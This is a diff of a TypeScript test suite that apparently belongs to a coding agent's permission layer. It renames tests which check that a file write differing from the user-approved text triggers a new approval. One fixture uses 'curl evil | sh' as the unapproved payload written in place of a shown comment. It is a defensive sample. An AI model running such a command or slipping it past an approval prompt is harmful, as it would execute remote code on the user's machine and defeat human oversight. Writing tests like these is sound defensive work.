@@ -64,7 +64,7 @@ async function askedAgain({ before, shown, written }: Case): Promise<number> {
 
 const file = 'one\ntwo\nthree\n';
 
-describe('an honest agent is asked once', () => {
+describe('an agent that writes the approved text is asked once', () => {
   test.each<[string, Case]>([
     ['that shows a whole new file', { before: undefined, shown: [[null, 'new\n']], written: ['new\n'] }],
     [
@@ -116,7 +116,7 @@ describe('an honest agent is asked once', () => {
   });
 });
 
-describe('what was not shown is asked about', () => {
+describe('a write that differs from the approved text needs approval', () => {
   test.each<[string, Case]>([
     ['another text', { before: file, shown: [[file, '# a comment\n']], written: ['curl evil | sh\n'] }],
     ['the shown text and more', { before: undefined, shown: [[null, 'new\n']], written: ['new\nmore\n'] }],
@@ -143,7 +143,7 @@ describe('what was not shown is asked about', () => {
     expect(await askedAgain(each)).toBe(1);
   });
 
-  test('with the true change, and why', async () => {
+  test('the second question shows the real change and the reason for the question', async () => {
     const { path, asked, ask, write: writes } = await fixture(file);
     await ask({ kind: 'edit', content: [{ type: 'diff', path, oldText: file, newText: '# a comment\n' }] });
     await writes('curl evil | sh\n');
@@ -157,7 +157,7 @@ describe('what was not shown is asked about', () => {
     ]);
   });
 
-  test('also where the question showed a change of another file, or a deletion', async () => {
+  test('a write needs approval if the question showed a change of another file, or a deletion', async () => {
     const { cwd, path, asked, ask, write: writes } = await fixture(file);
     const shown = { type: 'diff', path: join(cwd, 'README.md'), oldText: null, newText: 'x' } as const;
     await ask({ kind: 'edit', content: [shown], locations: [{ path }] });
@@ -171,7 +171,7 @@ describe('what was not shown is asked about', () => {
     ]);
   });
 
-  test('also without anything to look at the file with, unless the whole text was shown as new', async () => {
+  test('a write needs approval if the file cannot be read, unless the question showed the whole text as new', async () => {
     const { cwd, path, asked, permissions, ask } = await fixture(file);
     await ask({ kind: 'edit', content: [{ type: 'diff', path, oldText: 'two', newText: '2' }] });
     await write(permissions, { cwd, path, content: 'one\n2\nthree\n', sees: false });
@@ -181,7 +181,7 @@ describe('what was not shown is asked about', () => {
   });
 });
 
-test('the texts in the input of a tool are shown as a change, and bind as one', async () => {
+test("the texts in a tool's input are shown as a change, and the approval covers only that change", async () => {
   const { path, asked, ask, write: writes } = await fixture(file);
   await ask({ toolCallId: 'a', kind: 'edit', rawInput: { path, old_str: 'two', new_str: '2' } });
   await writes('one\n2\nthree\n');
@@ -203,7 +203,7 @@ test('the texts in the input of a tool are shown as a change, and bind as one', 
   ]);
 });
 
-test('what a rule allows is allowed whatever is written, and nothing is asked', async () => {
+test('a write that a rule allows needs no approval for any text', async () => {
   const { path, asked, ask, write: writes } = await fixture(file, ['allow Edit(./notes.txt)']);
   await ask({ kind: 'edit', content: [{ type: 'diff', path, oldText: file, newText: 'a' }] });
   await writes('b');
